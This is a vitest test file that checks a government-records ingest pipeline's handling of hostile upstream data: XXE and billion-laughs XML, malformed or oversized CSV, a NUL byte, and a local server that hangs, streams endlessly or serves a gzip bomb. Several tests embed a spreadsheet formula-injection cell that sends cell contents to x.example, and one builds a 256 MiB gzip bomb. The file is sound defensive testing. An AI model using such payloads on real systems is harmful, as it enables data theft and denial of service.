/**
 * Battery E (hostile upstream): what a source sends is contained — refused XML entities
 * (E04, E05), CSV that is malformed, ragged, endless in one field, wrongly encoded or
 * formula-bearing (E01–E03), records that drift from the source's format (E06), sources
 * that hang, send endless data or a gzip bomb (E07, E09). Each case: a clear reason with
 * the raw content kept, bounded time and memory, nothing partial left behind, and the
 * rest of the batch unharmed. E08 does not apply (see battery.test.ts).
 */
import { createWriteStream, mkdirSync, mkdtempSync, copyFileSync, rmSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createGzip } from 'node:zlib';
import { eq } from 'drizzle-orm';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { creditRecord, quarantine, registration, sourceFile } from '../../schema/index.js';
import { openDatabase, type Database } from '../../src/db/client.js';
import { PersonKeyring } from '../../src/ingest/person-keyring.js';
import { syncSource, type IngestDeps } from '../../src/ingest/pipeline.js';
import { CsvFileWriter } from '../../src/simulator/csv.js';
import { MARKET_HEADER, marketRow } from '../../src/simulator/market-registry.outlet.js';
import { World } from '../../src/simulator/world.js';
import { createTestDatabase, type TestDatabase } from '../support/db.js';

const FIXTURES = new URL('../../connectors/', import.meta.url).pathname;
let tdb: TestDatabase;
let database: Database;
let deps: IngestDeps;
let dir: string;

beforeAll(async () => {
  tdb = await createTestDatabase();
  database = await openDatabase({ url: tdb.url });
  await database.migrate();
  deps = { database, keyring: PersonKeyring.ephemeral(), log: pino({ level: 'silent' }), databaseUrl: tdb.url };
  dir = mkdtempSync(join(tmpdir(), 'govgraph-hostile-'));
});
afterAll(async () => {
  await database?.close();
  await tdb?.drop();
  rmSync(dir, { recursive: true, force: true });
});

const reasons = async (sourceId: string) => (await database.db.select().from(quarantine).where(eq(quarantine.sourceId, sourceId))).map((q) => q.reasonCode).sort();

describe('XML from outside', () => {
  it.each([
    ['xxe.xml', 'XML_DOCTYPE_REFUSED'],
    ['billion-laughs.xml', 'XML_DOCTYPE_REFUSED'],
    ['not-well-formed.xml', 'XML_MALFORMED'],
  ])('E04, E05: %s is refused whole (%s), without expansion, and nothing of it lands', async (fixture, reason) => {
    const drop = join(dir, `xml-${fixture}`);
    mkdirSync(drop, { recursive: true });
    copyFileSync(join(FIXTURES, 'realestate/fixtures', fixture), join(drop, 'DJ_20261101_0900.xml'));
    const rssBefore = process.memoryUsage().rss;
    const id = `re-${fixture}`;
    const run = await syncSource(deps, { id, connector: 'realestate', options: { dir: drop } });
    expect(run.status, run.error).toBe('succeeded');
    expect(await reasons(id)).toEqual([reason]);
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(100 * 1024 * 1024);
    const files = await database.db.select().from(sourceFile).where(eq(sourceFile.sourceId, id));
    expect(files.map((f) => f.status)).toEqual(['rejected']);
    expect(await database.db.select().from(registration).where(eq(registration.ywh, '2026110190001'))).toHaveLength(0);
    // Refused once, reported once: a re-run does not report it again.
    await syncSource(deps, { id, connector: 'realestate', options: { dir: drop } });
    expect(await reasons(id)).toEqual([reason]);
  });
});

describe('CSV from outside', () => {
  const creditDay = (name: string) => {
    const day = join(dir, name, '20261101');
    mkdirSync(day, { recursive: true });
    return day;
  };

  it('E03: stores formula-looking cells as text, flagged in warnings (exports escape them), and quarantines ragged rows', async () => {
    const day = creditDay('credit-hostile');
    copyFileSync(join(FIXTURES, 'credit/fixtures/xzcf-hostile.csv'), join(day, 'xzcf.csv'));
    const run = await syncSource(deps, { id: 'credit-hostile', connector: 'credit', options: { dir: join(dir, 'credit-hostile') } });
    expect(run.status).toBe('succeeded');
    const r = await reasons('credit-hostile');
    expect(r).not.toContain('CSV_FORMULA_INJECTION');
    expect(r).toContain('CSV_RAGGED_ROW');
    const [stored] = await database.query<{ subject_name: string; warnings: string[] }>(`select subject_name, warnings from credit_record where doc_no = '合市监罚〔2026〕7号'`);
    expect(stored!.subject_name).toBe('=HYPERLINK("http://x.example/?"&A1)');
    expect(stored!.warnings).toEqual([expect.stringMatching(/^subjectName: starts like a spreadsheet formula/)]);
    expect(r.filter((x) => x === 'LIST_MISSING')).toHaveLength(3); // the other three lists of that day
  });

  it('E03: an enterprise named like a formula is stored with its records, not quarantined (it and its links would vanish)', async () => {
    const world = new World({ enterprises: 4, seed: 303 });
    const firm = [...world.enterprises()].find((e) => e.legacy === 'none')!;
    const drop = join(dir, 'market-formula');
    mkdirSync(drop, { recursive: true });
    const out = new CsvFileWriter(join(drop, 'enterprises-20261101.csv'), 'gb18030');
    await out.row(MARKET_HEADER);
    const row = marketRow(world, firm, 'full');
    row[0] = firm.uscc;
    row[2] = '=HYPERLINK("http://x.example/","点击")';
    await out.row(row);
    await out.close();
    const run = await syncSource(deps, { id: 'market-formula', connector: 'market-registry', options: { dir: drop } });
    expect(run.status, run.error).toBe('succeeded');
    expect(await reasons('market-formula')).toEqual([]);
    const [stored] = await database.query<{ name: string; warnings: string[] }>(`select name, warnings from enterprise where uscc = $1`, [firm.uscc]);
    expect(stored!.name).toBe('=HYPERLINK("http://x.example/","点击")');
    expect(stored!.warnings).toContainEqual(expect.stringMatching(/^name: starts like a spreadsheet formula/));
  });

  it('E01: refuses a list in the wrong encoding and withdraws nothing because of it', async () => {
    const day = creditDay('credit-gbk');
    copyFileSync(join(FIXTURES, 'credit/fixtures/xzcf-gbk.csv'), join(day, 'xzcf.csv'));
    const run = await syncSource(deps, { id: 'credit-gbk', connector: 'credit', options: { dir: join(dir, 'credit-gbk') } });
    expect(run.status).toBe('succeeded');
    expect(await reasons('credit-gbk')).toContain('CSV_BAD_ENCODING');
    expect(run.counts.withdrawn).toBe(0);
  });

  it('E02: cuts a 100 MB field off at the record cap with bounded memory', async () => {
    const day = creditDay('credit-huge');
    const out = createWriteStream(join(day, 'xzcf.csv'));
    out.write('\uFEFF行政相对人名称,统一社会信用代码,决定文书号,类别,内容,罚款金额(万元),决定日期,决定机关,决定机关统一社会信用代码,公示截止期\r\n合肥,91340100MA8NEH400Q,x,罚款,"');
    const chunk = 'A'.repeat(1024 * 1024);
    for (let i = 0; i < 100; i++) if (!out.write(chunk)) await once(out, 'drain');
    out.end('",1,2026-10-01,机关,,2027-10-01\r\n');
    await once(out, 'finish');
    const rssBefore = process.memoryUsage().rss;
    const run = await syncSource(deps, { id: 'credit-huge', connector: 'credit', options: { dir: join(dir, 'credit-huge') } });
    expect(run.status).toBe('succeeded');
    expect(await reasons('credit-huge')).toContain('CSV_RECORD_TOO_LARGE');
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(150 * 1024 * 1024);
  });

  it('E01: reports a bulk file in the wrong encoding by its header, not as a pile of garbled rows', async () => {
    const folder = join(dir, 'market-utf8');
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, 'enterprises-20261101.csv'), '统一社会信用代码,注册号,企业名称,企业类型,法定代表人,法定代表人证件类型,法定代表人证件号码,注册资本(万元),成立日期,登记状态,住所,行政区划代码,行业代码,登记机关,核准日期,注销日期\r\n');
    const run = await syncSource(deps, { id: 'market-utf8', connector: 'market-registry', options: { dir: folder } });
    expect(run.status).toBe('succeeded');
    expect(await reasons('market-utf8')).toEqual(['CSV_BAD_HEADER']);
  });
});

describe('CSV rows that break the format', () => {
  const HEADER = '行政相对人名称,统一社会信用代码,决定文书号,类别,内容,罚款金额(万元),决定日期,决定机关,决定机关统一社会信用代码,公示截止期';
  const row = (n: number, content = '广告违法', date = '2026-10-01') => `合肥${n}号有限公司,91340100MA8NEH400Q,合市监罚〔2026〕${n}号,罚款,${content},1,${date},合肥市市场监督管理局,,2027-10-01`;
  const docNos = async (sourceId: string) =>
    (await database.db.select({ docNo: creditRecord.docNo }).from(creditRecord).where(eq(creditRecord.sourceId, sourceId))).map((r) => r.docNo).sort();
  const quarantined = async (sourceId: string) => database.db.select().from(quarantine).where(eq(quarantine.sourceId, sourceId));

  it('E01: a BOM, mixed CRLF/LF, a NUL and a wrong delimiter: the bad rows are quarantined by row with their raw text, the good ones land', async () => {
    const day = join(dir, 'credit-mixed', '20261101');
    mkdirSync(day, { recursive: true });
    const lines = [HEADER, row(101), row(102, '含\u0000字'), row(103).replaceAll(',', ';'), row(104)];
    writeFileSync(join(day, 'xzcf.csv'), `\uFEFF${lines[0]}\r\n${lines[1]}\n${lines[2]}\r\n${lines[3]}\n${lines[4]}\r\n`);
    const run = await syncSource(deps, { id: 'credit-mixed', connector: 'credit', options: { dir: join(dir, 'credit-mixed') } });
    expect(run.status, run.error).toBe('succeeded');
    expect(await docNos('credit-mixed')).toEqual(['合市监罚〔2026〕101号', '合市监罚〔2026〕104号']);
    const q = (await quarantined('credit-mixed')).filter((r) => r.reasonCode !== 'LIST_MISSING');
    expect(q.map((r) => r.reasonCode).sort()).toEqual(['CSV_RAGGED_ROW', 'UNSTORABLE_TEXT']);
    const nul = q.find((r) => r.reasonCode === 'UNSTORABLE_TEXT')!;
    expect(nul.reason).toMatch(/NUL/);
    // The raw row is kept, its NUL written as the escape \u0000 (PostgreSQL cannot hold the character itself).
    expect(nul.raw).toContain('合市监罚〔2026〕102号');
    expect(nul.raw).toContain('含\\u0000字');
    expect(q.find((r) => r.reasonCode === 'CSV_RAGGED_ROW')!.raw).toContain('合市监罚〔2026〕103号');
  });

  it('E01: an unbalanced quote refuses the whole list (CSV_MALFORMED, with the row it follows) and withdraws nothing', async () => {
    const root = join(dir, 'credit-quote');
    const first = join(root, '20261101');
    mkdirSync(first, { recursive: true });
    writeFileSync(join(first, 'xzcf.csv'), `\uFEFF${HEADER}\r\n${row(201)}\r\n${row(202)}\r\n`);
    expect((await syncSource(deps, { id: 'credit-quote', connector: 'credit', options: { dir: root } })).status).toBe('succeeded');
    const second = join(root, '20261102');
    mkdirSync(second, { recursive: true });
    writeFileSync(join(second, 'xzcf.csv'), `\uFEFF${HEADER}\r\n${row(201)}\r\n"合肥202号有限公司,91340100MA8NEH400Q,合市监罚〔2026〕202号\r\n`);
    const run = await syncSource(deps, { id: 'credit-quote', connector: 'credit', options: { dir: root } });
    expect(run.status, run.error).toBe('succeeded');
    expect(run.counts.withdrawn).toBe(0);
    const malformed = (await quarantined('credit-quote')).filter((r) => r.reasonCode === 'CSV_MALFORMED');
    expect(malformed).toHaveLength(1);
    expect(malformed[0]!.reason).toMatch(/after row 1/);
    expect(await docNos('credit-quote')).toEqual(['合市监罚〔2026〕201号', '合市监罚〔2026〕202号']);
  });

  it('E06: records that drift from the format (a mistyped amount, an odd date) are quarantined one by one; nothing partial is written', async () => {
    const day = join(dir, 'credit-drift', '20261101');
    mkdirSync(day, { recursive: true });
    const amountAsWords = row(302).replace(',1,2026', ',壹万,2026');
    writeFileSync(join(day, 'xzcf.csv'), `\uFEFF${HEADER}\r\n${row(301)}\r\n${amountAsWords}\r\n${row(303, '广告违法', '2026/13/45')}\r\n`);
    const run = await syncSource(deps, { id: 'credit-drift', connector: 'credit', options: { dir: join(dir, 'credit-drift') } });
    expect(run.status, run.error).toBe('succeeded');
    expect(await docNos('credit-drift')).toEqual(['合市监罚〔2026〕301号']);
    const q = (await quarantined('credit-drift')).filter((r) => r.reasonCode !== 'LIST_MISSING');
    expect(q).toHaveLength(2);
    expect(q.map((r) => r.raw).join('\n')).toContain('壹万');
    expect(q.map((r) => r.raw).join('\n')).toContain('2026/13/45');
  });
});

describe('sources that misbehave on the wire', () => {
  let server: Server;
  let base: string;
  let bomb: Buffer;

  beforeAll(async () => {
    // 256 MiB of zeros compresses to about 250 KB.
    const gz = createGzip({ level: 9 });
    const parts: Buffer[] = [];
    gz.on('data', (c: Buffer) => parts.push(c));
    const zeros = Buffer.alloc(1024 * 1024);
    for (let i = 0; i < 256; i++) if (!gz.write(zeros)) await once(gz, 'drain');
    gz.end();
    await once(gz, 'end');
    bomb = Buffer.concat(parts);
    server = createServer((req, res) => {
      // The bearer token picks the misbehaviour (the client builds the path itself).
      const mode = (req.headers.authorization ?? '').replace('Bearer ', '');
      if (mode === 'hang') return; // never answers
      if (mode === 'endless') {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.write('{"parcels":[');
        const more = () => {
          while (res.write('{"parcelCode":"340104001002GB00123"},')) {}
        };
        res.on('drain', more);
        res.on('close', () => res.off('drain', more));
        return more();
      }
      if (mode === 'bomb') {
        res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip', 'content-length': bomb.length });
        return res.end(bomb);
      }
      res.writeHead(404).end();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    Object.assign(process.env, { HOSTILE_HANG: 'hang', HOSTILE_ENDLESS: 'endless', HOSTILE_BOMB: 'bomb' });
  });
  afterAll(() => {
    server.closeAllConnections();
    server.close();
  });

  it.each([
    ['hang', 'CONNECTOR_TIMEOUT'],
    ['endless', 'CONNECTOR_PAYLOAD_TOO_LARGE'],
    ['bomb', 'CONNECTOR_PAYLOAD_TOO_LARGE'],
  ])('E07, E09: a source that %ss is cut off with %s, bounded in time and memory', async (path, code) => {
    const rssBefore = process.memoryUsage().rss;
    const started = Date.now();
    const run = await syncSource(deps, {
      id: `land-${path}`, connector: 'land',
      options: { baseUrl: base, tokenEnv: `HOSTILE_${path.toUpperCase()}`, timeoutMs: 1500, maxResponseBytes: 2 * 1024 * 1024 },
    });
    expect(run.status).toBe('failed');
    expect(run.error).toMatch(new RegExp(`^${code}`));
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(100 * 1024 * 1024);
  });
});
